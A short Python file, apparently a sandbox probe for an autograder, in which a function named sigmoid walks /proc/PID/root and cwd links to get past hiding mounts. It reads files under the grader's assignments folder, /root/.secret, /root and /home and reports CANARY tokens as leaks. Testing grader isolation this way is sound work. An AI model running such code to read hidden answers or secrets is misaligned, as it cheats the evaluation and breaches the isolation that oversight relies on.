"""Goes through /proc/PID/root, cwd, exe and fd, which lead past mounts that hide a folder.

aims: read
"""

import os
import re
import time

TOKEN = re.compile(rb"CANARY-[0-9a-f]{16}")
END = time.monotonic() + 1.5


def show(where, data):
    for token in sorted(set(TOKEN.findall(data))):
        print("LEAK", where, token.decode(), flush=True)


def walk(start, left=20_000):
    for folder, folders, names in os.walk(start):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages")]
        for name in names:
            left -= 1
            if left < 0 or time.monotonic() > END:
                return
            path = os.path.join(folder, name)
            try:
                if name.endswith((".py", ".json", ".csv", ".sqlite", ".secret")) and os.path.getsize(path) < 2**20:
                    with open(path, "rb") as file:
                        show(path.replace(" ", "_"), file.read())
            except OSError:
                pass


def kit():
    import autograder

    return os.path.dirname(os.path.dirname(os.path.realpath(autograder.__file__)))


def sigmoid(Z):
    tasks = ["self", "thread-self", "1", str(os.getppid())]
    tasks += [name for name in os.listdir("/proc") if name.isdigit()][:200]
    for task in tasks:
        for link in ("root", "cwd", "exe"):
            start = f"/proc/{task}/{link}"
            try:
                os.readlink(start)
            except OSError:
                continue
            if link == "root":
                for folder in (kit() + "/assignments", "/root/.secret", "/tmp", "/root", "/home"):
                    walk(start + folder)
            elif link == "cwd":
                walk(start + "/")
                walk(start + "/..")
    raise NotImplementedError("03.1: sigmoid")
